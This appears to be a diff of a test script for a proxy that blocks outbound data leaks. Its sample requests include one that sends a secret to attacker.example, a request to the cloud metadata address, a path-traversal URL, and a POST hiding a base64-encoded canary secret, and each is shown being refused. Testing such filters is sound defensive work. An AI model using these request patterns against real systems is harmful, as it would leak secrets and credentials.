@@ -32,6 +32,9 @@ ask "http://docs.demo.test:8765/docs/index.html?q=c2VjcmV0LWRhdGE="    # query p
 ask http://attacker.example/exfil?d=secret                             # host denied, never resolved
 ask http://169.254.169.254/latest/meta-data/                           # metadata address denied
 ask "http://docs.demo.test:8765/docs/%2e%2e/admin"                     # traversal refused
+# An allowed write carrying the policy's secret, base64-encoded: refused, and the log names it.
+ask -X POST --data-binary "note=$(printf demo-canary-0b9f3e7d2c | base64)" \
+  http://docs.demo.test:8765/notes/new
 
 kill -TERM $PROXY; wait $PROXY 2>/dev/null
 
